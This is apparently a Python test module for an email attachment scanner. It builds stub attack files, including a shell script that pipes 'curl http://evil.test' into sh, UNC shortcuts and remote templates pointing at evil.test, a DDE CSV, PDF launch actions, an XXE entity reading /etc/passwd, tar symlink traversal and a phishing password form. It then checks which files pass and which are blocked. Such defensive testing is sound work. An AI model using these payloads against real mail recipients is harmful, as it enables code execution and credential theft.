"""File types that attack kits use and the contract lets through, and what must still be stopped.

A type outside the seven denied ones passes (SPEC 1.5 b): an administrator may block more. What is
measured here is that nothing else happens: no verdict without a scan, no other reading of the mail.
"""

import gzip
import struct
import tarfile
from io import BytesIO

from tests.attachments import locked_samples as locked
from tests.attachments import samples as s
from tests.hostile import payloads as p
from tests.hostile.cases import Build, attached, based, html_part, mail, multipart, part, table


def _sent(name: str, content: bytes, kind: bytes = b"application/octet-stream") -> Build:
    return lambda: mail(attached(content, name.encode(), kind))


def _links_of_tar() -> bytes:
    buffer = BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as archive:
        for name, target in (("a", "/etc/passwd"), ("../b", "a"), ("/etc/cron.d/c", "x")):
            entry = tarfile.TarInfo(name)
            entry.type, entry.linkname = tarfile.SYMTYPE, target
            archive.addfile(entry)
    return buffer.getvalue()


def _pdf(catalog: bytes) -> bytes:
    return p.LETTER.replace(b"/Type/Catalog", b"/Type/Catalog" + catalog)


def _docx(**members: bytes) -> bytes:
    return s.zipped(s.opc_members() | {name.replace("__", "/"): c for name, c in members.items()})


XML = b"<?xml version='1.0'?>"
FILE_URL = b"file://evil.test/share/x"
CALENDAR = (
    b"BEGIN:VCALENDAR\r\nVERSION:2.0\r\nBEGIN:VEVENT\r\nUID:1\r\nSUMMARY:x\r\n%s\r\n"
    b"END:VEVENT\r\nEND:VCALENDAR\r\n"
)
RELATION = (
    b'<Relationships><Relationship Id="r" TargetMode="External" Target="http://evil.test/a.dotm"'
    b' Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/%s"/>'
    b"</Relationships>"
)
SHORTCUT = struct.pack("<L", 0x4C) + bytes.fromhex("0114020000000000c000000000000046") + bytes(200)
ONE_NOTE = bytes.fromhex("e4525c7b8cd8a74daeb15378d02996d3") + bytes(1000)
RTF_OBJECT = b"{\\rtf1{\\object\\objautlink\\objupdate{\\*\\objclass Package}{\\*\\objdata 0105}}}"

PASSING: list[tuple[str, bytes]] = [
    ("a.js", b"var a = new ActiveXObject('WScript.Shell');"),
    ("a.jse", b"#@~^AAAAAA==\x7f"),
    ("a.vbs", b'CreateObject("WScript.Shell").Run "calc"'),
    ("a.wsf", b"<job><script language=JScript>x</script></job>"),
    ("a.hta", b"<html><hta:application id=a><script>x</script></html>"),
    ("a.ps1", b"Start-Process calc"),
    ("a.cmd", b"@start calc\r\n"),
    ("a.com", b"\xb4\x09\xcd\x21"),
    ("a.sh", b"#!/bin/sh\ncurl http://evil.test | sh\n"),
    ("a.py", b"import os\n"),
    ("a.reg", b"Windows Registry Editor Version 5.00\r\n"),
    ("a.scf", b"[Shell]\r\nIconFile=\\\\evil.test\\x.ico\r\n"),
    ("a.url", b"[InternetShortcut]\r\nURL=" + FILE_URL + b"\r\nIconFile=\\\\evil.test\\x\r\n"),
    ("a.lnk", SHORTCUT),
    ("a.desktop", b"[Desktop Entry]\nType=Application\nExec=sh\n"),
    ("a.settingcontent-ms", XML + b"<PCSettings><DeepLink>cmd</DeepLink></PCSettings>"),
    ("a.library-ms", XML + b"<libraryDescription><url>\\\\evil.test</url></libraryDescription>"),
    ("a.search-ms", XML + b"<persistedQuery><kind/></persistedQuery>"),
    ("a.contact", XML + b"<c:contact xmlns:c='x'><c:url>http://evil.test</c:url></c:contact>"),
    ("a.theme", b"[Theme]\r\nDisplayName=\\\\evil.test\\x\r\n"),
    ("a.jnlp", XML + b"<jnlp codebase='http://evil.test'/>"),
    ("a.appref-ms", "http://evil.test/a.application".encode("utf-16")),
    ("a.application", XML + b"<asmv1:assembly xmlns:asmv1='x'/>"),
    ("a.rdp", b"full address:s:evil.test\r\n"),
    ("a.ica", b"[WFClient]\r\n"),
    ("a.iqy", b"WEB\r\n1\r\nhttp://evil.test/\r\n"),
    ("a.slk", b"ID;P\r\nO;E\r\nNN;NAuto_open;ER1C1\r\n"),
    ("dde.csv", b"=cmd|' /C calc'!A0,+1+cmd|'x'!A0,@SUM(1)\r\n"),
    ("tabs.csv", 'ü;=HYPERLINK("http://evil.test")\r\n'.encode("utf-16")),
    ("a.iso", s.iso(b"hello" * 500)),
    ("a.img", bytes(4096) + b"\x55\xaa"),
    ("a.vhd", bytes(4096) + b"conectix" + bytes(504)),
    ("a.vhdx", b"vhdxfile" + bytes(65_528)),
    ("a.one", ONE_NOTE),
    ("a.ace", b"\x9f\x31\x31\0\0\0\x90**ACE**" + bytes(60)),
    ("a.arj", b"\x60\xea\x22\0" + bytes(60)),
    ("a.lzh", b"\x20\x40-lh5-" + bytes(60)),
    ("a.cab", b"MSCF\0\0\0\0\x2c\0\0\0" + bytes(32)),
    ("a.chm", b"ITSF\3\0\0\0\x60\0\0\0" + bytes(100)),
    ("a.msi", locked.compound({"\u4840\u3f3f": b"x", "Property": b"x"})),
    ("a.xz", b"\xfd7zXZ\0\0\4" + bytes(30)),
    ("a.rtf", RTF_OBJECT),
    ("equation.rtf", b"{\\rtf1{\\object\\objemb{\\*\\objclass Equation.3}{\\*\\objdata 01}}}"),
    ("template.rtf", b"{\\rtf1{\\*\\template http://evil.test/a.dotm}}"),
    ("script.pdf", _pdf(b"/OpenAction<</S/JavaScript/JS(app.alert(1))>>")),
    ("launch.pdf", _pdf(b"/OpenAction<</S/Launch/Win<</F(cmd.exe)/P(/c calc)>>>>")),
    ("submit.pdf", _pdf(b"/AA<</O<</S/SubmitForm/F(http://evil.test)>>>>")),
    ("remote.pdf", _pdf(b"/OpenAction<</S/GoToR/F(\\\\\\\\evil.test\\\\x)/D[0/Fit]>>")),
    ("form.pdf", _pdf(b"/AcroForm<</XFA(<xdp/>)>>")),
    ("injected.docx", _docx(word___rels__settings=RELATION % b"attachedTemplate")),
    ("dde.docx", _docx(word__footer=b"<w:instrText>DDEAUTO c:\\\\x.exe</w:instrText>")),
    ("chunk.docx", _docx(word__afchunk=b"MIME-Version: 1.0\r\n\r\n<script>")),
    ("msdt.docx", _docx(word___rels__document=RELATION % b"oleObject")),
    ("macro4.xls", locked.compound({"Workbook": locked.excel_start(locked=False) + b"\x85"})),
    ("ole.doc", locked.compound({"WordDocument": locked.word_start(locked=False)})),
    ("smuggling.html", b"<script>new Blob([atob('TVqQ')])</script><a download=a.exe href=x>"),
    ("login.html", b"<form action=http://evil.test><input type=password></form>"),
    ("page.xhtml", XML + b"<html xmlns='http://www.w3.org/1999/xhtml'><script/></html>"),
    ("a.xsl", XML + b"<xsl:stylesheet xmlns:xsl='x'><msxsl:script/></xsl:stylesheet>"),
    ("entity.xml", XML + b"<!DOCTYPE a [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><a>&x;</a>"),
    ("links.tar", _links_of_tar()),
    ("a.tar.gz", gzip.compress(_links_of_tar(), mtime=0)),
    ("invite.ics", CALENDAR % b"ATTACH:http://evil.test/a.exe"),
    ("file.ics", CALENDAR % b"ATTACH;ENCODING=BASE64;VALUE=BINARY:aGVsbG8="),
    ("alarm.ics", CALENDAR % b"BEGIN:VALARM\r\nACTION:PROCEDURE\r\nATTACH:x\r\nEND:VALARM"),
    ("photo.vcf", b"BEGIN:VCARD\r\nPHOTO;ENCODING=b;TYPE=JPEG:/9j/4AAQ\r\nEND:VCARD\r\n"),
    ("remote.vcf", b"BEGIN:VCARD\r\nPHOTO;VALUE=uri:http://evil.test/x\r\nEND:VCARD\r\n"),
    ("playlist.m3u", b"#EXTM3U\r\n\\\\evil.test\\x\r\n"),
    ("a.torrent", b"d8:announce16:http://evil.test4:infod4:name1:aee"),
    ("core.elf", b"\x7fELF\2\1\1" + bytes(100)),
    ("mach.o", b"\xcf\xfa\xed\xfe" + bytes(100)),
    ("a.class", b"\xca\xfe\xba\xbe\0\0\0\x34" + bytes(60)),
    ("a.wasm", b"\0asm\1\0\0\0"),
    ("a.deb", b"!<arch>\ndebian-binary   "),
    ("a.dmg", bytes(512) + b"koly\0\0\0\4" + bytes(504)),
    ("a.pickle", b"\x80\4cos\nsystem\n."),
]

PAGE = b"MIME-Version: 1.0\r\nSubject: page\r\n"
LINKED = part(p.LETTER, b"Content-Type: application/pdf", b"Content-Location: http://evil.test/a")
SAVED_PAGE = PAGE + multipart((html_part("<img src=cid:a>"), LINKED), b"related", b"p0")


WITHHELD: list[tuple[str, Build]] = [
    ("pdf", _sent("a.pdf", locked.pdf(user=b"secret"))),
    ("office document", _sent("a.docx", locked.office())),
    ("odt", _sent("a.odt", locked.odt(locked=True))),
    ("zip in a tar", _sent("a.tar", s.tarred({"a.zip": p.encrypted_zip()}))),
]

VIRUSES: list[tuple[str, Build]] = [
    ("in a saved page", _sent("a.mht", PAGE + multipart((attached(p.virus()),), bound=b"p1"))),
    (
        "in gzip in tar in gzip",
        _sent("a.tgz", gzip.compress(s.tarred({"a": gzip.compress(p.virus())}))),
    ),
    ("in an xlsx", _sent("a.xlsx", s.zipped(s.opc_members() | {"xl/media/a.txt": p.virus()}))),
    ("behind a byte order mark", _sent("a.txt", p.virus())),
    ("in base64 of odd lines", lambda: mail(_coded(based(p.virus(), 5)))),
]


def _coded(body: bytes) -> bytes:
    head = (b"Content-Type: application/pdf; name=a.pdf", b"Content-Transfer-Encoding: base64")
    return part(body, *head, coded=False)


def _der(tag: int, content: bytes) -> bytes:
    size = len(content)
    length = bytes([size]) if size < 128 else b"\x84" + size.to_bytes(4, "big")
    return bytes([tag]) + length + content


def signed_around(mime: bytes, pieces: int = 0) -> bytes:
    """CMS SignedData with its content inside, as Outlook sends and opens it (smime.p7m)."""
    kind = bytes.fromhex("06092a864886f70d0107")
    octets = _der(4, mime)
    if pieces:
        cut = (mime[at : at + pieces] for at in range(0, len(mime), pieces))
        octets = b"\x24\x80" + b"".join(_der(4, one) for one in cut) + b"\0\0"
    inner = _der(0x30, kind + b"\1" + _der(0xA0, octets))
    signed = _der(0x30, b"\2\1\1" + _der(0x31, b"") + inner + _der(0x31, b""))
    return _der(0x30, kind + b"\2" + _der(0xA0, signed))


def _opaque(content: bytes, *, name: bytes = b"smime.p7m", pieces: int = 0) -> Build:
    inner = multipart((attached(content),), bound=b"s0")
    kind = b"application/pkcs7-mime; smime-type=signed-data"
    return lambda: mail(attached(signed_around(inner, pieces), name, kind))


CASES = [
    *table("locked and bombs", "withheld", WITHHELD, prefix="locked "),
    *table("viruses", "infected", VIRUSES, prefix="virus "),
    *table(
        "inner mails",
        "refused",
        [
            ("signed with its content inside", _opaque(p.program())),
            ("signed with its content inside, a zip", _opaque(s.ZIP)),
            ("signed with its content in pieces", _opaque(p.program(), pieces=1000)),
            ("signed, under another name", _opaque(p.program(), name=b"letter.pdf")),
        ],
        prefix="program ",
    ),
]
ALLOWED = [(name, _sent(name, content)) for name, content in PASSING]
ALLOWED += [
    ("page.mht", _sent("page.mht", SAVED_PAGE)),
    ("smime.p7m", _opaque(p.LETTER)),
]
